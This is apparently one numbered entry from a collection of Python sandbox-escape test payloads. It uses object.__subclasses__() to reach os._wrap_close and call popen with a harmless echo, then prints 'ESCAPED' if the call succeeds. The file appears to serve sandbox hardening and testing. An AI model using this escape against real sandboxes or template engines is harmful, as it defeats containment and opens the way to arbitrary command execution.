# escape: 126
# technique: object.__subclasses__() -> os._wrap_close.__init__.__globals__
# family: subclasses
# goal: exec
# first-seen: HackTricks; SSTI payloads c. 2014
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        r = c.__init__.__globals__['popen']('echo sub').read()
        if r == 'sub\n': print('ESCAPED:wrap_close')
